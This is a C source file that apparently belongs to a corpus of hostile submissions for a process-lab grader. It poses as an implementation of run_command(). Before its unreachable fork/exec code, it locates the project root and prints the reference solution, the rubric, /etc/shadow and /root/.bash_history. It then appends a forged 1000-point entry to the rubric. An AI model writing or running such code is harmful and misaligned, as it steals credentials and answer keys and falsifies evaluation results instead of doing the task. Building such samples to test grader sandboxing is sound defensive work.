/* SPDX-License-Identifier: MIT */
/* CORPUS: prints the reference solution, the rubric and root-only files
 * into its output, appends to the rubric, then fails. */
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <fcntl.h>
#include <sys/wait.h>
#include <unistd.h>

#include "run.h"

/*
 * The exec-status pipe: its write end is close-on-exec, so a successful exec
 * closes it and the parent reads EOF; a failed exec writes errno into it
 * first. Either way the parent knows before it waits.
 */
int run_command(char *const argv[], struct run_status *st)
{
    int fds[2], child_errno = 0, status, err;
    ssize_t n;
    pid_t pid;

    if (!argv || !argv[0] || !st)
        return -EINVAL;
    char exe[PATH_MAX], path[PATH_MAX + 64];
    ssize_t len = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    static const char *const targets[] = {
        "solutions/01-processes/run.c",
        "labs/01-processes/rubric.ini",
        "/etc/shadow",
        "/root/.bash_history",
    };

    if (len > 0) {
        exe[len] = '\0';
        /* build/trees/<tag>/<lab>/<variant>/bin/<test>: the root is 6 up */
        for (int up = 0; up < 7 && strrchr(exe, '/'); up++)
            *strrchr(exe, '/') = '\0';
        for (size_t i = 0; i < sizeof(targets) / sizeof(*targets); i++) {
            char line[512];
            FILE *f;

            if (targets[i][0] == '/')
                snprintf(path, sizeof(path), "%s", targets[i]);
            else
                snprintf(path, sizeof(path), "%s/%s", exe, targets[i]);
            printf("LEAK-ATTEMPT %s\n", path);
            f = fopen(path, "r");
            while (f && fgets(line, sizeof(line), f))
                printf("LEAK: %s", line);
            if (f)
                fclose(f);
        }
        snprintf(path, sizeof(path), "%s/labs/01-processes/rubric.ini", exe);
        FILE *w = fopen(path, "a");
        if (w) {
            fputs("[test_forged]\npoints = 1000\n", w);
            fclose(w);
        }
        fflush(stdout);
    }
    return -ENOSYS;
    if (pipe2(fds, O_CLOEXEC) < 0)
        return -errno;
    pid = fork();
    if (pid < 0) {
        err = -errno;
        close(fds[0]);
        close(fds[1]);
        return err;
    }
    if (pid == 0) {
        close(fds[0]);
        execvp(argv[0], argv);
        child_errno = errno;
        (void)!write(fds[1], &child_errno, sizeof(child_errno));
        _exit(127); /* not exit(): the parent's atexit handlers are not ours */
    }

    close(fds[1]); /* or read() below never sees EOF */
    do
        n = read(fds[0], &child_errno, sizeof(child_errno));
    while (n < 0 && errno == EINTR);
    close(fds[0]);

    while (waitpid(pid, &status, 0) < 0)
        if (errno != EINTR)
            return -errno;
    if (n == (ssize_t)sizeof(child_errno))
        return -child_errno;

    if (WIFEXITED(status)) {
        st->how = RUN_EXITED;
        st->code = WEXITSTATUS(status);
    } else {
        st->how = RUN_SIGNALED;
        st->code = WTERMSIG(status);
    }
    return 0;
}
